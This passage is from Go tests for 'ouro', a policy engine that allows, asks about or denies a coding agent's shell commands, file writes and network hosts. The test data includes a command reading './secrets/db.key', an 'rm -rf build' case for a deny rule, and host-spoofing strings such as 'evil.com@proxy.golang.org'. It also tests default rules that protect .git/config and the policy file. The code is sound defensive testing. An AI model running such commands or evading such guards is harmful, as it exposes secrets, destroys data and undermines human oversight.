		{"deep lead", ouro.Action{Depth: 3, Agent: "lead"}, nil},
		{"task", ouro.Action{Task: "cut the release notes"}, []string{"task"}},
		{"glob over words", ouro.Action{Command: "cat ./secrets/db.key"}, []string{"cmd-glob"}},
		{"argv as given", ouro.Action{Command: "/usr/bin/git status", Argv: [][]string{{"/usr/bin/git", "status"}}}, []string{"argv-as-given"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := p.Evaluate(&tt.action)
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(hitNames(got), tt.want) {
				t.Fatalf("hits = %q, want %q", hitNames(got), tt.want)
			}
		})
	}
}

func TestHostAllowed(t *testing.T) {
	p, err := Compile(&File{Name: "t", Version: 1, Network: Network{Allow: []string{"Proxy.Golang.org", "*.example.com", "10.0.0.1"}}})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		host string
		want bool
	}{
		{"proxy.golang.org", true},
		{"PROXY.golang.ORG", true},
		{"proxy.golang.org.", true},
		{"proxy.golang.org:443", true},
		{"a.example.com", true},
		{"a.b.example.com:8080", true},
		{"example.com", false},
		{"badexample.com", false},
		{"10.0.0.1", true},
		{"10.0.0.2", false},
		{"golang.org", false},
		{"proxy.golang.org.evil.com", false},
		{"evil.com@proxy.golang.org", false},
		{"proxy.golang.org\x00", false},
		{"proxy.golang.org:", false},
		{"proxy.golang.org:443:1", false},
		{"proxy.golang.org:http", false},
		{"proxy%2egolang.org", false},
		{"proxy..golang.org", false},
		{"", false},
		{"[::1]", false},
		{"[::1", false},
	}
	for _, tt := range tests {
		if got := p.HostAllowed(tt.host); got != tt.want {
			t.Errorf("HostAllowed(%q) = %v, want %v", tt.host, got, tt.want)
		}
	}
}

func TestHash(t *testing.T) {
	a := compileDefault(t)
	b := compileDefault(t)
	if a.Hash() != b.Hash() {
		t.Fatal("hash differs between two compilations of the same files")
	}
	if raw, err := hex.DecodeString(a.Hash()); err != nil || len(raw) != 32 {
		t.Fatalf("hash %q is not hex SHA-256", a.Hash())
	}
	renamed := Default()
	renamed.Name = "elsewhere"
	if c, _ := Compile(renamed); c.Hash() != a.Hash() {
		t.Fatal("the file's name changed the hash")
	}
	changed := Default()
	changed.Rules[0].Message += "!"
	if c, _ := Compile(changed); c.Hash() == a.Hash() {
		t.Fatal("changing a message did not change the hash")
	}
	reordered := Default()
	reordered.Rules[0], reordered.Rules[1] = reordered.Rules[1], reordered.Rules[0]
	if c, _ := Compile(reordered); c.Hash() == a.Hash() {
		t.Fatal("reordering rules did not change the hash")
	}
	lower := Default()
	v := 59
	lower.Thresholds.Pause = &v
	if c, _ := Compile(lower); c.Hash() == a.Hash() {
		t.Fatal("changing a threshold did not change the hash")
	}
}

func TestLoad(t *testing.T) {
	ctx := context.Background()
	def := compileDefault(t)

	t.Run("no repo file", func(t *testing.T) {
		p, err := Load(ctx, t.TempDir())
		if err != nil {
			t.Fatal(err)
		}
		if p.Hash() != def.Hash() {
			t.Fatal("policy without a repo file differs from the default")
		}
	})
	t.Run("repo file adds a rule", func(t *testing.T) {
		dir := t.TempDir()
		writeFile(t, filepath.Join(dir, ".ouro", "policy.yaml"), "version: 1\nrules:\n  - name: no-rm\n    when: 'cmds.exists(c, c[0] == \"rm\")'\n    decision: deny\n    message: no rm here\n")
		p, err := Load(ctx, dir)
		if err != nil {
			t.Fatal(err)
		}
		got, _ := p.Evaluate(bash("rm -rf build"))
		if got.Decision != ouro.Deny || got.Rule != "no-rm" || got.Message != "no rm here" {
			t.Fatalf("got %+v", got)
		}
		got, _ = p.Evaluate(write(".git/config"))
		if got.Rule != "no-protected-write" {
			t.Fatalf("default rules missing: %+v", got)
		}
	})
	t.Run("broken repo file", func(t *testing.T) {
		dir := t.TempDir()
		writeFile(t, filepath.Join(dir, ".ouro", "policy.yaml"), "version: 1\nrules:\n  - name: bad\n    when: 'pahts'\n    decision: deny\n")
		_, err := Load(ctx, dir)
		if err == nil || !strings.HasPrefix(err.Error(), `policy .ouro/policy.yaml: rule "bad": 1:1: undeclared reference to 'pahts'`) {
			t.Fatalf("err = %v", err)
		}
	})
	t.Run("unreadable repo file", func(t *testing.T) {
		dir := t.TempDir()
		if err := os.MkdirAll(filepath.Join(dir, ".ouro", "policy.yaml"), 0o755); err != nil {
			t.Fatal(err)
		}
		_, err := Load(ctx, dir)
		if err == nil || !strings.HasPrefix(err.Error(), "read policy .ouro/policy.yaml: ") {
			t.Fatalf("err = %v", err)
		}
	})
	t.Run("cancelled", func(t *testing.T) {
		cctx, cancel := context.WithCancel(ctx)
		cancel()
		if _, err := Load(cctx, t.TempDir()); !errors.Is(err, context.Canceled) {
			t.Fatalf("err = %v", err)
		}
	})
}

func TestEvaluateConcurrent(t *testing.T) {
	p := compileDefault(t)
	actions := []struct {
		a    *ouro.Action
		want ouro.Decision
	}{
		{bash("git push"), ouro.Ask},
		{write(".ouro/policy.yaml"), ouro.Deny},
		{bash("go test ./..."), ouro.Allow},
	}
	var wg sync.WaitGroup
	errs := make(chan string, 64)
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				tc := actions[(g+i)%len(actions)]
				got, err := p.Evaluate(tc.a)
				if err != nil || got.Decision != tc.want {
					errs <- tc.a.Command
					return
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Errorf("wrong decision under concurrency for %q", e)
	}
}

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}
